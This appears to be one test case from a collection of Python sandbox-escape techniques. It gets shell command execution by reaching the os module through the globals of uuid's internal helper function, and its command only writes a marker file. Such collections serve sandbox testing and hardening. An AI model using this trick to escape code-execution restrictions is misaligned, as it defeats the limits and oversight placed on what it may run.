# technique: uuid runs helper programs that it looks for itself
# goal: exec-command
# source: own analysis: confused deputies
import uuid
uuid._get_command_stdout.__globals__['os'].system('echo x > @OUT@/file')
